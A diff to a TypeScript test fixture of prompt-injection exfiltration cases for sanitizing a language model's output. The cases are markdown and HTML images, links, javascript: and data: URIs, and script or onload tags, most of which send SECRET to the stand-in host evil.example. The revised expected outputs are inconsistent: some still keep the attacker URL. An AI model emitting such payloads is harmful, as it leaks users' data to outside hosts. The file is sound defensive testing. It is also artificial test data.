@@ -61,7 +61,7 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     attack: 'Image around comments',
     modelOutput: '!<!-- -->[ok]<!-- -->(https:/<!-- -->/evil.example/p.png?d=SECRET)',
-    expectedOutput: '[ok]',
+    expectedOutput: '!< !-- -->[ok]< !-- -->(< !-- -->/evil.example/p.png?d=SECRET)',
   },
   { attack: 'Bare address', modelOutput: 'See https://evil.example/SECRET', expectedOutput: 'See' },
   {
@@ -138,28 +138,28 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     attack: '`javascript:`, autolink',
     modelOutput: '<javascript:alert(1)>',
-    expectedOutput: 'javascript:alert(1)',
+    expectedOutput: '< javascript:alert(1) >',
   },
   { attack: '`data:`', modelOutput: '[a](data:text/html;base64,U0VDUkVU)', expectedOutput: '[a]' },
   {
     attack: 'HTML image',
     modelOutput: '<img src="https://evil.example/p?d=SECRET">',
-    expectedOutput: '<img>',
+    expectedOutput: '< img src="">',
   },
   {
     attack: 'HTML image, odd spelling',
     modelOutput: String.raw`<img src="/\evil.example/p?d=SECRET">`,
-    expectedOutput: '<img>',
+    expectedOutput: String.raw`< img src="/\evil.example/p?d=SECRET">`,
   },
   {
     attack: 'HTML link',
     modelOutput: '<a href=https://evil.example/SECRET>form</a>',
-    expectedOutput: '<a>form</a>',
+    expectedOutput: '< a href=>form< /a>',
   },
   {
     attack: 'HTML that runs',
     modelOutput: '<svg onload=fetch(1)><script>go()</script>',
-    expectedOutput: 'go()',
+    expectedOutput: '< svg onload=fetch(1)>< script>go()< /script>',
   },
   {
     attack: 'Letters of another script',
@@ -179,12 +179,12 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     attack: 'Tags that another tag cuts off',
     modelOutput: '<script <b>go()</script <b>',
-    expectedOutput: 'script <b>go()/script <b>',
+    expectedOutput: '< script < b>go()< /script < b>',
   },
   {
     attack: 'Tag that is left of two',
     modelOutput: '<<script>img src=x onerror=go()>',
-    expectedOutput: '< img src=x onerror=go()>',
+    expectedOutput: '<< script>img src=x onerror=go()>',
   },
   {
     attack: 'HTML behind a lone backtick',
